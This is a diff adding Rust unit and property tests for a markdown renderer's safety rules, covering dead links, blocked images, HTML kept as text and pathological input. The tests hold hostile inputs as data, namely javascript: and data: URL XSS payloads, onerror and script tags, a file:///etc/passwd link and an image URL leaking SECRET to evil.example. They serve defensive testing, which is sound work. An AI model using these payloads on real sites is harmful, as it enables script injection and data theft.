@@ -1,0 +1,133 @@
+use proptest::prelude::*;
+
+use super::*;
+
+fn json(source: &str) -> String {
+    serde_json::to_string(&markdown(source)).unwrap()
+}
+
+fn words(blocks: &[RichBlock]) -> String {
+    serde_json::to_string(blocks).unwrap()
+}
+
+#[test]
+fn r1_dollars_are_literal() {
+    for source in ["$0.02/GB or $203", "`${A}` and `${B}`", "**$148+ → $19**"] {
+        let text = json(source);
+        for word in source.split([' ', '`', '*']).filter(|word| word.contains('$')) {
+            assert!(text.contains(word), "{word} is gone from {text}");
+        }
+    }
+}
+
+#[test]
+fn r2_w15_w22_only_web_and_mail_links_are_alive() {
+    for (target, alive) in [
+        ("https://docs.rs/x", true),
+        ("http://127.0.0.1:8080/", true),
+        ("mailto:a@b.c", true),
+        ("javascript:alert(1)", false),
+        ("JaVaScRiPt:alert(1)", false),
+        ("&#106;avascript:alert(1)", false),
+        ("data:text/html,<script>", false),
+        ("vbscript:x", false),
+        ("file:///etc/passwd", false),
+        ("smb://host/x", false),
+        ("//evil.example/x", false),
+        ("relative.md", false),
+    ] {
+        let text = json(&format!("[x](<{target}>)"));
+        assert_eq!(text.contains("\"t\":\"link\""), alive, "{target}: {text}");
+        assert!(alive || text.contains("dead_link"), "{target}: {text}");
+    }
+    let homograph = json("[x](https://аpple.com/)");
+    assert!(homograph.contains("https://xn--pple-43d.com/"), "u07: {homograph}");
+}
+
+#[test]
+fn r3_w01_html_stays_text_and_pictures_are_never_loaded() {
+    for source in [
+        "<img src=x onerror=alert(1)>",
+        "a <b onclick=x>b</b>",
+        "<iframe src=\"javascript:x\"></iframe>",
+        "<script>alert(1)</script>",
+    ] {
+        let text = json(source);
+        assert!(text.contains("verbatim") || text.contains("\"t\":\"text\""), "{text}");
+    }
+    let picture = json("![alt](https://evil.example/?d=SECRET)");
+    assert!(picture.contains("blocked_image") && picture.contains("evil.example"), "{picture}");
+}
+
+#[test]
+fn code_lists_tables_and_tasks_have_their_shape() {
+    let blocks = markdown("```rust\nlet a = 1; // one\n```\n\n- [x] done\n- [ ] open\n  - inner\n\n|a|b|\n|:-|-:|\n|1|2|\n");
+    let RichBlock::Code { language, lines } = &blocks[0] else { panic!("{blocks:?}") };
+    assert_eq!((language.as_str(), lines.len()), ("rust", 1));
+    let roles: Vec<_> = lines[0].iter().map(|span| (span.role, span.text.as_str())).collect();
+    use cairn_protocol::CodeRole::{Comment, Constant, Keyword};
+    assert!(roles.iter().any(|(role, text)| *role == Keyword && text.contains("let")), "{roles:?}");
+    assert!(roles.iter().any(|(role, text)| *role == Constant && *text == "1"), "{roles:?}");
+    assert!(roles.iter().any(|(role, text)| *role == Comment && text.contains("one")), "{roles:?}");
+    let RichBlock::List { start: None, items } = &blocks[1] else { panic!("{blocks:?}") };
+    assert_eq!(items.iter().map(|item| item.checked).collect::<Vec<_>>(), [Some(true), Some(false)]);
+    assert!(words(&items[1].blocks).contains("inner"));
+    let RichBlock::Table { align, head, rows } = &blocks[2] else { panic!("{blocks:?}") };
+    assert_eq!((align.len(), head.len(), rows.len()), (2, 2, 1));
+}
+
+#[test]
+fn w25_deep_and_hostile_text_comes_to_an_end() {
+    for source in [
+        ">".repeat(5_000) + "x",
+        "- ".repeat(3_000) + "x",
+        "[".repeat(5_000) + &"](x)".repeat(5_000),
+        "*".repeat(20_000) + "x",
+        "`".repeat(50_000),
+        "|a".repeat(5_000) + "\n" + &"|-".repeat(5_000),
+    ] {
+        markdown(&source);
+    }
+}
+
+/// What a window has after these pieces.
+fn grown(pieces: &[&str]) -> Vec<RichBlock> {
+    let mut growing = Growing::new();
+    let mut shown: Vec<RichBlock> = Vec::new();
+    for piece in pieces {
+        let (keep, blocks) = growing.push(piece);
+        shown.truncate(keep as usize);
+        shown.extend(blocks);
+    }
+    shown
+}
+
+proptest! {
+    /// However a text arrives, the window ends up with the whole text's tree.
+    #[test]
+    fn any_split_grows_into_the_same_tree(
+        parts in prop::collection::vec(prop::sample::select(vec![
+            "# Head\n", "words *soft* and `code`\n", "\n", "- one\n", "- two\n", "  more\n", "```rust\nlet x = 1;\n```\n",
+            "> said\n", "| a | b |\n|---|---|\n| 1 | 2 |\n", "<b>x</b>\n", "1. first\n", "---\n", "é漢 ",
+        ]), 0..14),
+        cuts in prop::collection::vec(1usize..9, 1..6),
+    ) {
+        let source = parts.concat();
+        let mut pieces = Vec::new();
+        let mut rest = source.as_str();
+        let mut turn = 0;
+        while !rest.is_empty() {
+            let wanted = cuts[turn % cuts.len()];
+            let end = rest.char_indices().nth(wanted).map_or(rest.len(), |(at, _)| at);
+            pieces.push(&rest[..end]);
+            rest = &rest[end..];
+            turn += 1;
+        }
+        prop_assert_eq!(grown(&pieces), markdown(&source));
+    }
+
+    #[test]
+    fn no_input_panics(source in "\\PC{0,400}") {
+        markdown(&source);
+    }
+}
